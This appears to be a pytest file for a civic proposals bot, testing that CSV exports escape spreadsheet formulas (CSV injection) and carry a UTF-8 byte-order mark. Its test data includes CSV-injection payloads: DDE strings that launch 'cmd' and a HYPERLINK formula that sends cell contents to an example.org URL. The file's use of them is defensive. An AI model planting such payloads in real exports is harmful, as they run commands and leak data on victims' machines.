"""Exports are data, never formulas (OWASP, "CSV Injection"): a resident's proposal written as a
formula reaches the export as text, and the CSV is UTF-8 with a byte-order mark. The exported
file is read back as a spreadsheet reads it (openpyxl, after converting the CSV to XLSX the way
a spreadsheet imports it: each cell as the string it holds)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from bot.__main__ import export_proposals, report
from storage.export_safety import csv_writer, safe_cell
from storage.indicators import TutorialIndicators, write_csv
from storage.models import Municipality, Proposal
from tests import test_whatsapp
from tests.test_whatsapp import AZ_PHONE, onboard
from tests.wa_user import WaHarness

HYPERLINK = '=HYPERLINK("https://example.org/?d="&A2,"Open the road photo")'

# the WhatsApp harness of tests/test_whatsapp.py: residents on WhatsApp, staff on Telegram
graph = test_whatsapp.graph
wa = test_whatsapp.wa


def as_spreadsheet(path: Path, tmp_path: Path) -> openpyxl.worksheet.worksheet.Worksheet:
    """Import the CSV into a workbook (a string starting with "=" becomes a formula, as in a
    spreadsheet), save it as XLSX, and open that file again."""
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    xlsx = tmp_path / (path.stem + ".xlsx")
    book.save(xlsx)
    again = openpyxl.load_workbook(xlsx).active
    assert again is not None
    return again


def test_the_spreadsheet_reading_can_tell_a_formula() -> None:
    """The check below could fail: unneutralised, the same cell is a formula."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([HYPERLINK, safe_cell(HYPERLINK)])
    assert sheet["A1"].data_type == "f"
    assert sheet["B1"].data_type == "s"


async def test_a_formula_sent_as_a_proposal_is_exported_as_text(
    wa: WaHarness, tmp_path: Path
) -> None:
    user = await onboard(wa, AZ_PHONE, "QUB")
    await user.send("/menu")
    await user.press("✍️ Send a proposal")
    await user.press("✍️ New proposal")
    await user.press("🛣 Roads")
    await user.send(HYPERLINK)
    await user.press("Skip ▸")  # no photos
    await user.press("Skip ▸")  # no location
    await user.press("✅ Send")
    async with wa.app.sessionmaker() as session:
        stored = await session.scalar(select(Proposal))
        assert stored is not None
    assert stored.text == HYPERLINK  # kept as the resident wrote it: only the export changes

    output = tmp_path / "proposals.csv"
    await export_proposals(wa.app, code="QUB", event_id=None, output=output)
    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for spreadsheets on Windows
    sheet = as_spreadsheet(output, tmp_path)
    header = [cell.value for cell in sheet[1]]
    text = sheet.cell(row=2, column=header.index("text") + 1)
    assert text.data_type == "s"
    assert text.value == "'" + HYPERLINK
    # No cell of the export is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


async def test_indicators_csv_is_utf8_with_a_bom_and_no_formulas(
    wa: WaHarness, tmp_path: Path
) -> None:
    path = tmp_path / "indicators.csv"
    await report(wa.app, code="QUB", first=date(2026, 11, 1), last=date(2026, 11, 30),
                 csv_path=path)  # fmt: skip
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(newline="", encoding="utf-8-sig") as handle:
        [header] = list(csv.reader(handle))
    assert header[0] == "municipality"
    # The rows pass through the same rule (a tutorial code comes from a content file).
    out = io.StringIO()
    place = Municipality(code="QUB", country="AZ", timezone="Asia/Baku", names={})
    write_csv(out, municipality=place, first=date(2026, 11, 1), last=date(2026, 11, 30),
              rows=[TutorialIndicators("@SUM(1+1)*cmd|' /C calc'!A0", 3, 2, 1)])  # fmt: skip
    [_, row] = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))
    assert row[3] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row[4:] == ["3", "2", "1"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Дорога к школе", "Дорога к школе"),
        ("Ճանապարհ", "Ճանապարհ"),
        ("a=b", "a=b"),
        ("", ""),
        ("-12", "-12"),  # a plain number is a number, not a formula
        ("+1.5", "+1.5"),
        (None, None),
        (7, 7),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_the_writer_writes_a_bom_first_and_neutralises_every_cell() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", "Салам", 5])
    assert out.getvalue() == "\ufeff'=1+1,Салам,5\r\n"
